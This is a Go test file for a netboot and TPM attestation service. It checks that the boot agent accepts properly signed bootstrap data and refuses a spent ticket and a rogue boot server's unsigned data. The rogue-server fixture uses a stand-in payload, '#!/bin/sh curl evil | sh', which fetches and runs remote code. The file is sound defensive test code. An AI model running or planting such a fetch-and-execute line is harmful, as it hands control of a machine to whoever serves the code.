package netboot_test

import (
	"context"
	"crypto/ed25519"
	"crypto/x509"
	"encoding/pem"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/yonder-dev/yonder/test/gobuild"

	"github.com/go-logr/logr/testr"
	. "github.com/onsi/gomega"
	"github.com/prometheus/client_golang/prometheus"

	wire "github.com/yonder-dev/yonder/hostruntime/attest"
	"github.com/yonder-dev/yonder/hostruntime/attest/swtpm"
	"github.com/yonder-dev/yonder/infrastructure-baremetal/internal/attest"
	"github.com/yonder-dev/yonder/infrastructure-baremetal/internal/bootserver"
	"github.com/yonder-dev/yonder/infrastructure-baremetal/internal/inventory"
	"github.com/yonder-dev/yonder/infrastructure-baremetal/internal/netboot"
	"github.com/yonder-dev/yonder/test/labnet"
	"github.com/yonder-dev/yonder/test/metalboot"
)

// The boot step as a booted host runs it: `yonder-agent attest`, inside the host's network namespace,
// reads the server and ticket from the kernel command line its iPXE script set, attests a real swtpm and
// writes the released bootstrap data (0600); a second boot with the spent ticket is refused and says why.
func TestYonderAgentAttestCommand(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	agentBin := gobuild.ForTest(t, "./hostruntime/cmd/yonder-agent", gobuild.Options{})

	n := labnet.NewForTest(t)
	host, err := n.Attach(ctx, "attest-cli")
	g.Expect(err).NotTo(HaveOccurred())
	mac := net.HardwareAddr{0x52, 0x54, 0x00, 0x7e, byte(n.Slot), 0x03}
	inv := inventory.NewStatic(inventory.Host{Name: "metal/host-8", MAC: mac, Address: host.Address,
		Boot: inventory.BootConfig{Kernel: "vmlinuz", Initrd: "initrd.img", Cmdline: "console=ttyS0"}})
	roots, intermediates := swtpmRoots(t)
	store := attest.NewMemoryStore()
	store.SetBootstrapData("metal/host-8", []byte("join-config-for-host-8"))
	signer, serverKey := signingKey(t)
	svcs, err := netboot.Start(ctx, netboot.Config{Interface: n.Bridge, ServerIP: n.Gateway, HTTPPort: 8080, TFTPPort: 69,
		ArtifactsDir: t.TempDir(), Attestation: attest.Config{EKRoots: roots, EKIntermediates: intermediates, SigningKey: signer}}, inv, store, prometheus.NewRegistry(), testr.New(t))
	g.Expect(err).NotTo(HaveOccurred())
	t.Cleanup(func() { _ = svcs.Stop() })

	work := t.TempDir()
	cmdline := filepath.Join(work, "cmdline")
	g.Expect(bootCmdline(t, host, "http://"+svcs.HTTPAddr.String()+"/ipxe/"+mac.String(), cmdline)).To(ContainSubstring("yonder.ticket="))
	sw := startSwtpm(t)

	output := filepath.Join(work, "run", "bootstrap-data")
	attestCmd := func() (string, error) {
		return agentAttest(host, agentBin, sw.Socket, cmdline, output, "--server-key", serverKey)
	}
	msg, err := attestCmd()
	g.Expect(err).NotTo(HaveOccurred(), msg)
	g.Expect(msg).To(ContainSubstring("attested"))
	data, err := os.ReadFile(output)
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(string(data)).To(Equal("join-config-for-host-8"))
	st, err := os.Stat(output)
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(st.Mode().Perm()).To(Equal(os.FileMode(0o600)))
	g.Expect(store.LastReason("metal/host-8")).To(Equal(attest.ReasonReleased))

	msg, err = attestCmd()
	g.Expect(err).To(HaveOccurred())
	g.Expect(msg).To(ContainSubstring("refused this host (UnknownTicket)"))
}

// signingKey is the provider's signing key (for attest.Config) and the file of its public half (the boot
// image's /etc/yonder/boot-server.pub).
func signingKey(t *testing.T) (ed25519.PrivateKey, string) {
	t.Helper()
	dir := t.TempDir()
	keyFile, pub, err := metalboot.GenerateSigningKey(dir)
	if err != nil {
		t.Fatal(err)
	}
	signer, err := attest.LoadSigningKey(keyFile)
	if err != nil {
		t.Fatal(err)
	}
	pubFile := filepath.Join(dir, "boot-server.pub")
	if err := os.WriteFile(pubFile, pub, 0o600); err != nil {
		t.Fatal(err)
	}
	return signer, pubFile
}

// A rogue boot server on the boot LAN answers the host first (its DHCP names its own script) and runs the
// real protocol with its own attestation service: it enrols the host's TPM (nothing stops it: the TPM is
// the host's) and hands it data of its choosing, encrypted to the host's public EK. Without the
// provider's key in the boot image the agent would write (and the image run) that data — the attack;
// with it the agent refuses, naming EnvelopeNotSignedByProvider, and writes nothing.
func TestAgentRefusesARogueBootServer(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	agentBin := gobuild.ForTest(t, "./hostruntime/cmd/yonder-agent", gobuild.Options{})
	n := labnet.NewForTest(t)
	host, err := n.Attach(ctx, "rogue-victim")
	g.Expect(err).NotTo(HaveOccurred())
	mac := net.HardwareAddr{0x52, 0x54, 0x00, 0x7d, byte(n.Slot), 0x04}
	_, serverKey := signingKey(t) // the provider's key, built into the victim's boot image

	// The rogue: real boot HTTP server and attestation service, its own key, its own data.
	ln, err := net.Listen("tcp4", n.Gateway.String()+":0")
	g.Expect(err).NotTo(HaveOccurred())
	base, rogueSigner, _ := startRogueBootServer(t, ln, mac)

	sw := startSwtpm(t)
	work := t.TempDir()
	boot := func(extra ...string) (string, string, error) {
		cmdline := filepath.Join(work, "cmdline")
		bootCmdline(t, host, base+"/ipxe/"+mac.String(), cmdline)
		output := filepath.Join(t.TempDir(), "bootstrap-data")
		msg, err := agentAttest(host, agentBin, sw.Socket, cmdline, output, extra...)
		return msg, output, err
	}

	noServed := filepath.Join(work, "no-served-key.pub")
	// An image with no key at all refuses to run before it asks anything: it never quietly runs unsigned data.
	msg, output, err := boot("--served-server-key", noServed)
	g.Expect(err).To(HaveOccurred())
	g.Expect(msg).To(ContainSubstring("no provider key: neither /etc/yonder/boot-server.pub (built into the boot image) nor " + noServed))
	_, err = os.Stat(output)
	g.Expect(err).To(MatchError(os.ErrNotExist))

	// The attack, with an image knowingly built without the provider's key: the rogue's data is written.
	msg, output, err = boot("--served-server-key", noServed, "--insecure-unsigned")
	g.Expect(err).NotTo(HaveOccurred(), msg)
	g.Expect(msg).To(ContainSubstring("WARNING: no provider key"))
	data, err := os.ReadFile(output)
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(string(data)).To(ContainSubstring("curl evil"))

	// Our boot image: refused by name, nothing written — also when the boot network serves its own key
	// beside the image (a key built into the image wins over a served one).
	roguePub := filepath.Join(work, "rogue-served.pub")
	der, err := x509.MarshalPKIXPublicKey(rogueSigner.Public())
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(os.WriteFile(roguePub, pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), 0o600)).To(Succeed())
	for _, extra := range [][]string{{"--server-key", serverKey}, {"--server-key", serverKey, "--served-server-key", roguePub}} {
		msg, output, err = boot(extra...)
		g.Expect(err).To(HaveOccurred())
		g.Expect(msg).To(ContainSubstring("refusing the bootstrap data from " + base + ": " + wire.ReasonEnvelopeNotSigned))
		_, err = os.Stat(output)
		g.Expect(err).To(MatchError(os.ErrNotExist))
	}
}

// startRogueBootServer serves, on ln, what a rogue on the boot LAN runs: the real boot HTTP server and
// attestation service, with its own signing key and an attestation policy that accepts any TPM, handing the
// host at mac a script of its own that names itself as yonder.server= and, after attestation, data of its
// choosing. It returns the server's base URL, its key and its store (where it records what it released).
func startRogueBootServer(t *testing.T, ln net.Listener, mac net.HardwareAddr) (string, ed25519.PrivateKey, *attest.MemoryStore) {
	t.Helper()
	store := attest.NewMemoryStore()
	store.SetBootstrapData(rogueHost, []byte("#!/bin/sh\ncurl evil | sh\n"))
	signer, _ := signingKey(t)
	svc := attest.New(attest.Config{InsecureAcceptAnyEK: true, SigningKey: signer}, store, testr.New(t), nil)
	base := "http://" + ln.Addr().String()
	rogue, err := bootserver.New(bootserver.Config{BaseURL: base, ArtifactsDir: t.TempDir(), Tickets: svc, API: svc.Handler(),
		Lookup: inventory.NewStatic(inventory.Host{Name: rogueHost, MAC: mac, Boot: inventory.BootConfig{Kernel: "vmlinuz", Cmdline: "console=ttyS0"}})},
		testr.New(t), nil)
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: rogue.Handler(), ReadHeaderTimeout: 5 * time.Second}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close(); _ = rogue.Close() })
	return base, signer, store
}

// rogueHost is the name the rogue's own inventory gives its victim.
const rogueHost = "rogue/victim"

// bootCmdline does what iPXE does with a host's script: fetches it (curl, from inside the host's
// namespace) from scriptURL, and writes the kernel line's arguments where `yonder-agent attest --cmdline`
// reads them (/proc/cmdline on a booted host). It returns that kernel command line.
func bootCmdline(t *testing.T, host *labnet.Attachment, scriptURL, path string) string {
	t.Helper()
	script, err := exec.Command("nsenter", "--net="+host.NamespacePath, "curl", "-sS", "--fail", scriptURL).CombinedOutput()
	if err != nil {
		t.Fatalf("failed to fetch the boot script %s: %v: %s", scriptURL, err, script)
	}
	var kernelLine string
	for _, l := range strings.Split(string(script), "\n") {
		if strings.HasPrefix(l, "kernel ") {
			kernelLine = strings.TrimPrefix(l, "kernel ")
		}
	}
	if err := os.WriteFile(path, []byte(kernelLine), 0o600); err != nil {
		t.Fatal(err)
	}
	return kernelLine
}

// startSwtpm manufactures a software TPM (its EK certificate signed by swtpm-localca) for one host.
func startSwtpm(t *testing.T) *swtpm.TPM {
	t.Helper()
	dir, err := os.MkdirTemp("", "yswtpm-")
	if err != nil {
		t.Fatal(err)
	}
	sw, err := swtpm.Start(context.Background(), dir)
	if err != nil {
		_ = os.RemoveAll(dir)
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = sw.Stop(); _ = os.RemoveAll(dir) })
	return sw
}

// agentAttest runs `yonder-agent attest` inside the host's namespace against the swtpm at socket, with the
// command line at cmdline, writing the bootstrap data to output and the instructions beside it
// (agentInstructions), not to the machine's /run/yonder; extra are further flags (the key files).
func agentAttest(host *labnet.Attachment, agentBin, socket, cmdline, output string, extra ...string) (string, error) {
	args := append([]string{"--net=" + host.NamespacePath, agentBin, "attest", "--tpm", socket, "--cmdline", cmdline,
		"--output", output, "--instructions", agentInstructions(output)}, extra...)
	b, err := exec.Command("nsenter", args...).CombinedOutput()
	return string(b), err
}

// agentInstructions is where agentAttest has the agent write the instructions for output.
func agentInstructions(output string) string {
	return filepath.Join(filepath.Dir(output), "instructions.json")
}
